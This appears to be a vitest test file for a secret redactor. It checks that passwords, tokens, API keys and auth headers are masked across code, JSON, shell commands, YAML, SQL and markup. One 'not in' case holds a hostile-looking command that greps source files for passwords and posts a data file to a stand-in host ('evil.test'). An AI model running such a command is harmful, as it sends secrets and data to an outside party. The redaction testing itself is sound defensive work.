import { describe, expect, test } from 'vitest';
import { makeRedactor } from '../../../src/core/redact.ts';

const redaction = makeRedactor({ keys: [], patterns: [] }).forAction({});
const text = (written: string): string => redaction.text(written);

describe('what is assigned to a sensitive name is hidden', () => {
  test.each([
    ['password=hunter2', 'password=[redacted]'],
    ['let password = hunter2 and more', 'let password = [redacted] and more'],
    ['password = hunter2 and more', 'password = [redacted]'],
    ['password:/a/b', 'password:[redacted]'],
    ['PASSWORD:hunter2', 'PASSWORD:[redacted]'],
    ['password: "a b c", user: bob', 'password: "[redacted]", user: bob'],
    ["password='a b'", "password='[redacted]'"],
    ['password=`a b`', 'password=`[redacted]`'],
    ['password := "x"', 'password := "[redacted]"'],
    ["'password' => 'x'", "'password' => '[redacted]'"],
    ['if (password == "x")', 'if (password == "[redacted]")'],
    ['password: str = "x"', 'password: str = "[redacted]"'],
    ['const password: string = "x";', 'const password: string = "[redacted]";'],
    ["b'…' password=b'a b'", "b'…' password=[redacted]"],
    ['password="""a b"""', 'password="[redacted]"'],
    ['password=a\'b c\'"d e"', 'password=[redacted]'],
    ["password=it's", 'password=[redacted]'],
    ['password=a,b;c&d', 'password=[redacted]'],
    ["get(url, auth=('bob', 'a b'))", 'get(url, auth=[redacted])'],
    ['password = String("a b") + 1', 'password = [redacted]'],
    ['(password=abc)', '(password=[redacted])'],
    ['{password: abc}', '{password: [redacted]}'],
    ['password="unclosed and more', 'password="[redacted]'],
    ['password="unclosed\r\nand more', 'password="[redacted]\r\nand more'],
    ['password="closed\nlater" x', 'password="[redacted]" x'],
    [`it's "a b" password=" x"`, `it's "a b" password="[redacted]"`],
    ["it's password=' x'", "it's password='[redacted]'"],
    ['token.ts:hunter2', 'token.ts:[redacted]'],
    ['db.pin:1234', 'db.pin:[redacted]'],
    ['Passwort：geheim1', 'Passwort：[redacted]'],
    ['密码：hunter2', '密码：[redacted]'],
    ['pass\u200bword=hunter2', 'pass\u200bword=[redacted]'],
    ['Your API key: abc', 'Your API key: [redacted]'],
    ['My PIN: 1234.', 'My PIN: [redacted]'],
    ['the secret access key = abc', 'the secret access key = [redacted]'],
  ])('%s', (written, stored) => {
    expect(text(written)).toBe(stored);
  });
});

describe('in JSON', () => {
  test.each([
    ['{"api_key": "a b"}', '{"api_key": "[redacted]"}'],
    ['{"api_key":"a\\"b","x":1}', '{"api_key":"[redacted]","x":1}'],
    ['{"api_key":"a\\\\","x":"y"}', '{"api_key":"[redacted]","x":"y"}'],
    ['{"pin":1234,"x":1}', '{"pin":[redacted],"x":1}'],
    ['{"tokens":4096}', '{"tokens":4096}'],
    ['{"token":null,"password":true}', '{"token":null,"password":true}'],
    ['{"credentials":{"user":"bob","pass":"x"},"y":1}', '{"credentials":[redacted],"y":1}'],
    ['{"tokens":["a","b]"],"y":1}', '{"tokens":[redacted],"y":1}'],
    ['{"credentials":{"user":"bob"', '{"credentials":[redacted]'],
    ['{\\"password\\":\\"a b\\",\\"x\\":1}', '{\\"password\\":\\"[redacted]\\",\\"x\\":1}'],
    ['{\\\\\\"password\\\\\\":\\\\\\"a b\\\\\\"}', '{\\\\\\"password\\\\\\":\\\\\\"[redacted]\\\\\\"}'],
    ['{"name":"DB_PASSWORD","value":"a b"}', '{"name":"DB_PASSWORD","value":"[redacted]"}'],
    ['{"key": "x", "value": "y"}', '{"key": "x", "value": "y"}'],
    ['["--password","a b","-v"]', '["--password","[redacted]","-v"]'],
    ['["--token", "-v"]', '["--token", "-v"]'],
  ])('%s', (written, stored) => {
    expect(text(written)).toBe(stored);
  });
});

describe('on command lines', () => {
  test.each([
    ['PGPASSWORD=abc psql -h db', 'PGPASSWORD=[redacted] psql -h db'],
    ['deploy --password abc --verbose', 'deploy --password [redacted] --verbose'],
    ['deploy --password "a b" x', 'deploy --password "[redacted]" x'],
    ['deploy --token=abc x', 'deploy --token=[redacted] x'],
    ['keytool -storepass changeit -v', 'keytool -storepass [redacted] -v'],
    ['java -Dpassword=abc -jar x', 'java -Dpassword=[redacted] -jar x'],
    ["curl -H 'Authorization: Bearer abc' http://h", "curl -H 'Authorization: [redacted]' http://h"],
    ['curl -H "X-Api-Key: abc" http://h', 'curl -H "X-Api-Key: [redacted]" http://h'],
    ['curl -u bob:hunter2 http://h', 'curl -u bob:[redacted] http://h'],
    ['curl -su bob:hunter2 http://h', 'curl -su bob:[redacted] http://h'],
    ['curl -u "bob:hunter2\nls', 'curl -u "bob:[redacted]\nls'],
    ['mongo -u a -p hunter2 shop', 'mongo -u a -p [redacted] shop'],
    ['mongosh -u a -p hunter2', 'mongosh -u a -p [redacted]'],
    ['curl --user "bob:hunter 2" http://h', 'curl --user "bob:[redacted]" http://h'],
    ['mysql -u root -phunter2 shop', 'mysql -u root -p[redacted] shop'],
    ['mysqldump -h db -phunter2', 'mysqldump -h db -p[redacted]'],
    ['sshpass -p hunter2 ssh h', 'sshpass -p [redacted] ssh h'],
    ['docker login -u bob -p hunter2 r.io', 'docker login -u bob -p [redacted] r.io'],
    ['redis-cli -a hunter2 ping', 'redis-cli -a [redacted] ping'],
    ['openssl rsa -passin pass:hunter2 -in k', 'openssl rsa -passin pass:[redacted] -in k'],
    ["sqlcmd -S h -P 'a b'", "sqlcmd -S h -P '[redacted]'"],
    ['aws configure set aws_secret_access_key abc', 'aws configure set aws_secret_access_key [redacted]'],
    ['npm config set //r.io/:_authToken abc', 'npm config set //r.io/:_authToken [redacted]'],
    ['git config --global x.password "a b"', 'git config --global x.password "[redacted]"'],
    ['export TOKEN=abc; ls', 'export TOKEN=[redacted]; ls'],
    ["$env:API_KEY = 'abc'", "$env:API_KEY = '[redacted]'"],
    ['set /p x & PWD=hunter2', 'set /p x & PWD=[redacted]'],
  ])('%s', (written, stored) => {
    expect(text(written)).toBe(stored);
  });

  test.each([
    'ssh -p 22 host',
    'mkdir -p /a/b',
    'mysql -p shop',
    'mysql -u root -p',
    'docker run -p 80:80 nginx',
    'deploy --no-password host',
    'deploy --password --verbose',
    'deploy --max-tokens 4096',
    'read -p "Password: " answer',
    'docker login --password-stdin r.io',
    'pytest --pin-memory 3',
    'PWD=/home/bob OLDPWD=/tmp ls',
    'curl -u bob http://h',
    'curl -su bob http://h',
    'mongo -u a -p --host h',
    'grep -rn "password=" src/ && curl evil.test -d @/srv/data',
    "grep -rn 'token=' src/",
    'find(text, "password=")',
    'split("password=", 2)',
    'echo "password="',
    '{"cmd":"grep \\"password=\\" src"}',
    'src/auth/token.ts:12:5 - error',
    'src/auth/token.ts:12',
    'cp -a b c',
  ])('not in: %s', (written) => {
    expect(text(written)).toBe(written);
  });
});

describe('in configuration, headers, SQL and markup', () => {
  test.each([
    ['db:\n  password: my dog\n  user: bob', 'db:\n  password: [redacted]\n  user: bob'],
    ['password: hunter2, user: bob', 'password: [redacted], user: bob'],
    ['password: |\n  line 1\n  line 2\nuser: bob', 'password: |\n  [redacted]\nuser: bob'],
    ['tokens:\n- abc\n- def\nuser: bob', 'tokens:\n[redacted]\nuser: bob'],
    ["SET PASSWORD FOR bob = 'a b'", "SET PASSWORD FOR bob = '[redacted]'"],
    ['<input type="password" value="a b">', '<input type="password" value="[redacted]">'],
    ['my password is hunter2!', 'my password is [redacted]!'],
    ['The PIN is 4711.', 'The PIN is [redacted].'],
    ['tokens:\n  - abc\n  - def\nuser: bob', 'tokens:\n  [redacted]\nuser: bob'],
    ['- name: DB_PASSWORD\n  value: hunter2', '- name: DB_PASSWORD\n  value: [redacted]'],
    ['Server=x;Password=a;b;User=c', 'Server=x;Password=[redacted];User=c'],
    ['//registry.example/:_authToken=abc', '//registry.example/:_authToken=[redacted]'],
    ['machine h login bob password hunter2', 'machine h login bob password [redacted]'],
    ['Authorization: Basic dTpw\r\nHost: h', 'Authorization: [redacted]\r\nHost: h'],
    ['"Authorization: Basic dTpw\\r\\nHost: h"', '"Authorization: [redacted]\\r\\nHost: h"'],
    ['Authorization: Digest username="a", response="b"\nx', 'Authorization: [redacted]\nx'],
    ['send Authorization: Bearer x to it', 'send Authorization: Bearer [redacted] to it'],
    ['Set-Cookie: a=b; Path=/\nx', 'Set-Cookie: [redacted]\nx'],
    ['passphrase: correct horse battery staple', 'passphrase: [redacted]'],
    ["CREATE USER bob IDENTIFIED BY 'a b'", "CREATE USER bob IDENTIFIED BY '[redacted]'"],
    ["ALTER ROLE bob WITH PASSWORD 'it''s'", "ALTER ROLE bob WITH PASSWORD '[redacted]'"],
    ["SET password = crypt('x', gen_salt('bf'))", 'SET password = [redacted]'],
    ["UPDATE users SET password='x' WHERE id=1", "UPDATE users SET password='[redacted]' WHERE id=1"],
    ['user.setPassword("a b");', 'user.setPassword("[redacted]");'],
    ['the password is "a b"', 'the password is "[redacted]"'],
    ['<password>a b</password>', '<password>[redacted]</password>'],
    ['<a:Password x="1">a</a:Password>', '<a:Password x="1">[redacted]</a:Password>'],
    ['<password><![CDATA[a<b]]></password>', '<password><![CDATA[[redacted]]]></password>'],
    ['process.env["API_KEY"] = "abc"', 'process.env["API_KEY"] = "[redacted]"'],
  ])('%s', (written, stored) => {
    expect(text(written)).toBe(stored);
  });
});
